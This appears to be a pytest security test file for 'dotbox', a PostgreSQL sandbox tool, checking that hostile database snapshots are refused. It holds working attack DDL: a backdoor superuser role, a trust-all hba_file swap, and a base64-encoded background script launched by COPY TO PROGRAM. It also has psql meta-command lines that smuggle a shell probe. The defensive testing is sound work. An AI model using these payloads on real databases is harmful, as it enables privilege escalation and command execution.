"""A hostile snapshot: its DDL runs as a superuser while it bakes, and psql reads it. Each class
of the security issue gets a test: import the snapshot, create a sandbox, let the attack try to
reach the stand-in official server; the attack must be refused or fail, the stand-in untouched
(the ``official`` fixture checks) and nothing of the sandbox left. Each test's control proves the
route exists outside dotbox: the probe reaches the stand-in from its own network, and the same
DDL on a plain PostgreSQL container of the test's own (network none) does what dotbox stops."""

from __future__ import annotations

import base64
import secrets
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import psycopg
import pytest

from tests.security.attack import PROBE_B64, Official, cli, labelled

BASE = "dotbox/base:pg17"
Result = subprocess.CompletedProcess[str]
BIN = "/usr/lib/postgresql/17/bin"

# Class 10: a superuser the handed-out role can become, and a superuser anyone can log in as.
ROLES_DDL = """\
CREATE ROLE boss SUPERUSER;
GRANT boss TO sandbox;
CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'letmein';
CREATE TABLE t (a int);
"""
# Class 11: an hba file written at bake that trusts everyone, made the server's by ALTER SYSTEM.
HBA_DDL = """\
CREATE TABLE t (a int);
DO $$ BEGIN
  EXECUTE 'COPY (SELECT ''local all all trust'') TO ''/tmp/evil_hba.conf''';
END $$;
ALTER SYSTEM SET hba_file = '/tmp/evil_hba.conf';
"""
# Class 10, read back: a process started by the DDL makes boss a superuser again once the bake's
# finish.sql has demoted it (and keeps doing so until the bake's server stops).
RACER = """\
for i in $(seq 3000); do
  s=$(psql -X -At -U dotbox_admin -d sandbox \\
      -c "SELECT rolsuper FROM pg_roles WHERE rolname = 'sandbox'" 2>/dev/null) || exit 0
  if [ "$s" = f ]; then
    while [ -S "$PGHOST/.s.PGSQL.5432" ]; do
      psql -X -q -U dotbox_admin -d sandbox \\
        -c "ALTER ROLE boss SUPERUSER LOGIN PASSWORD 'letmein'" 2>/dev/null
      sleep 0.01
    done
    exit 0
  fi
  sleep 0.005
done
"""
RACER_DDL = f"""\
CREATE ROLE boss;
GRANT boss TO sandbox;
CREATE TABLE t (a int);
DO $$ BEGIN
  EXECUTE format('COPY (SELECT 1) TO PROGRAM %L',
                 'echo {base64.b64encode(RACER.encode()).decode()} | base64 -d'
                 || ' | nohup sh >/dev/null 2>&1 &');
END $$;
"""


def probe(official: Official) -> str:
    """The shell command that tries every route to the stand-in."""
    return f"echo {PROBE_B64} | base64 -d | python3 - {' '.join(official.targets)}"


def _import(tmp_path: Path, name: str, ddl: str) -> subprocess.CompletedProcess[str]:
    path = tmp_path / f"{name}.sql"
    path.write_text(ddl)
    return cli("snapshot", "import", str(path), "--name", name, "--pg", "17", "--replace")


@contextmanager
def sandbox_of(
    snapshot: str, *flags: str
) -> Iterator[tuple[str, subprocess.CompletedProcess[str]]]:
    """Create a sandbox of ``snapshot`` with the CLI (the create may fail: the caller looks at
    the result); afterwards drop it and check nothing carrying its id is left."""
    sid = f"sb-att-{secrets.token_hex(3)}"
    try:
        yield sid, cli("create", "--snapshot", snapshot, "--name", sid, *flags)
    finally:
        cli("drop", sid)
        assert labelled(f"dotbox.id={sid}") == [], "the sandbox left something behind"


def dsn_of(created: subprocess.CompletedProcess[str]) -> str:
    assert created.returncode == 0, created.stderr
    return created.stdout.strip().splitlines()[-1]


def plain_server(ddl: str, then: str) -> str:
    """The control: a plain PostgreSQL (network none, a container of this test's own) with a
    password for every local connection, ``ddl`` run by its superuser and a non-superuser
    ``sandbox`` as dotbox hands out; then the shell ``then``. Returns its output."""
    script = f"""
set -e
export PATH={BIN}:$PATH PGHOST=/tmp PGDATABASE=postgres
echo su > /tmp/pw
initdb -D /tmp/d -U postgres -A scram-sha-256 --pwfile=/tmp/pw >/dev/null
pg_ctl -D /tmp/d -w -s -l /tmp/log -o "-c listen_addresses= -c unix_socket_directories=/tmp" start
PGPASSWORD=su psql -X -q -U postgres -c "CREATE ROLE sandbox LOGIN PASSWORD 'sb'"
echo {base64.b64encode(ddl.encode()).decode()} | base64 -d > /tmp/ddl.sql
PGPASSWORD=su psql -X -q -v ON_ERROR_STOP=1 -U postgres -f /tmp/ddl.sql >/dev/null
{then}
"""
    return subprocess.run(
        ["docker", "run", "--rm", "--network", "none", "--user", "postgres"]
        + ["--entrypoint", "sh", BASE, "-c", script],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    ).stdout


def connect(dsn: str, **params: str) -> psycopg.Connection[tuple[object, ...]]:
    return psycopg.connect(dsn, autocommit=True, connect_timeout=5, **params)


def test_snapshot_roles_give_no_superuser(official: Official, tmp_path: Path) -> None:
    """Class 10: ``SET ROLE boss`` then ``COPY … TO PROGRAM`` (the probe), and logging in as
    ``backdoor`` over the socket and the --tcp port, both fail."""
    official.control()
    control = plain_server(
        ROLES_DDL,
        "PGPASSWORD=sb psql -X -q -U sandbox -c 'SET ROLE boss'"
        " -c \"COPY (SELECT 1) TO PROGRAM 'touch /tmp/ran'\" && test -f /tmp/ran && echo BOSS\n"
        "PGPASSWORD=letmein psql -X -At -U backdoor -c 'SELECT rolsuper FROM pg_roles"
        " WHERE rolname = current_user'",
    )
    assert control.split() == ["BOSS", "t"], control  # the route exists without dotbox

    assert _import(tmp_path, "att-roles", ROLES_DDL).returncode == 0
    for flags in ((), ("--tcp",)):
        with sandbox_of("att-roles", *flags) as (sid, created):
            dsn = dsn_of(created)
            with connect(dsn) as conn:
                roles = conn.execute(
                    "SELECT rolname, rolsuper, rolcanlogin FROM pg_roles"
                    " WHERE rolname IN ('boss', 'backdoor', 'sandbox') ORDER BY 1"
                ).fetchall()
                assert roles == [("backdoor", False, False), ("boss", False, False)] + [
                    ("sandbox", False, True)
                ]
                conn.execute("SET ROLE boss")
                with pytest.raises(psycopg.errors.InsufficientPrivilege):
                    conn.execute(f"COPY (SELECT 1) TO PROGRAM '{probe(official)}'")
            shown = cli("show", sid).stdout.splitlines()
            assert [x.split()[-1].lower() for x in shown if x.startswith("superuser")] == [
                "false"
            ], shown
            for user, password in (("backdoor", "letmein"), ("boss", "letmein")):
                with pytest.raises(psycopg.OperationalError):
                    connect(dsn, user=user, password=password).close()


def test_alter_system_cannot_move_the_hba_file(official: Official, tmp_path: Path) -> None:
    """Class 11: the DDL's ``ALTER SYSTEM SET hba_file`` (a file trusting all, written at bake)
    is discarded: a wrong password is refused over the socket and through the --tcp port."""
    official.control()
    control = plain_server(
        HBA_DDL,
        "pg_ctl -D /tmp/d -w -s -l /tmp/log restart\n"
        "PGPASSWORD=wrong psql -X -At -U postgres -c \"SELECT 'in with a wrong password'\"",
    )
    assert control.strip() == "in with a wrong password", control

    assert _import(tmp_path, "att-hba", HBA_DDL).returncode == 0
    for flags in ((), ("--tcp",)):
        with sandbox_of("att-hba", *flags) as (_, created):
            dsn = dsn_of(created)
            connect(dsn).close()
            with pytest.raises(psycopg.OperationalError, match="password authentication failed"):
                connect(dsn, password="wrong").close()
            with pytest.raises(psycopg.OperationalError, match="password authentication failed"):
                connect(dsn, user="postgres", password="wrong").close()


def test_a_role_made_superuser_after_the_bake_fails_the_create(
    official: Official, tmp_path: Path
) -> None:
    """Class 10, read back: a process the DDL left running undoes the bake's demotion; create's
    read-back finds the superuser that can log in and refuses the sandbox, leaving nothing."""
    official.control()
    assert _import(tmp_path, "att-racer", RACER_DDL).returncode == 0
    for flags in ((), ("--tcp",)):
        with sandbox_of("att-racer", *flags) as (sid, created):
            assert created.returncode == 4, (created.stdout, created.stderr)
            message = created.stderr.strip()
            assert len(message.splitlines()) == 1, message
            assert "not safe to hand out" in message and "superusers: boss" in message, message
            assert "other roles that log in: boss" in message, message
            assert sid not in cli("list").stdout


@pytest.mark.parametrize(
    ("line", "command", "at"),
    [
        ("\\echo a \\! {probe}", "\\!", 2),
        ("\\set x `{probe}`", "\\set", 2),
        ("SELECT 1 \\! {probe}", "\\!", 2),
        ("CREATE TABLE u (\n  a int \\! {probe}\n);", "\\!", 3),
    ],
)
def test_meta_commands_that_run_a_shell_are_refused_at_import(
    official: Official, tmp_path: Path, line: str, command: str, at: int
) -> None:
    """Class 12: a shell command hidden later on a meta-command line, in backticks, or after
    SQL never reaches psql: the import refuses the snapshot (FILE:LINE, the command, one line,
    exit code 2), so no image is baked and no sandbox made."""
    official.control()
    text = line.format(probe=probe(official))
    harmless = base64.b64encode(line.format(probe="touch /tmp/ran").encode()).decode()
    control = plain_server(
        "SELECT 1;\n",
        f"echo {harmless} | base64 -d > /tmp/x.sql\n"
        "PGPASSWORD=sb psql -X -q -U sandbox -f /tmp/x.sql >/dev/null 2>&1 || true\n"
        "test -f /tmp/ran && echo RAN",
    )
    assert control.strip() == "RAN", control  # psql runs it

    name = f"att-meta-{secrets.token_hex(2)}"
    refused = _import(tmp_path, name, "CREATE TABLE t (a int);\n" + text + "\n")
    assert refused.returncode == 2, (refused.stdout, refused.stderr)
    message = refused.stderr.strip()
    assert len(message.splitlines()) == 1, message
    assert f"{name}.sql:{at}:" in message and command in message, message
    assert name not in cli("snapshot", "list").stdout
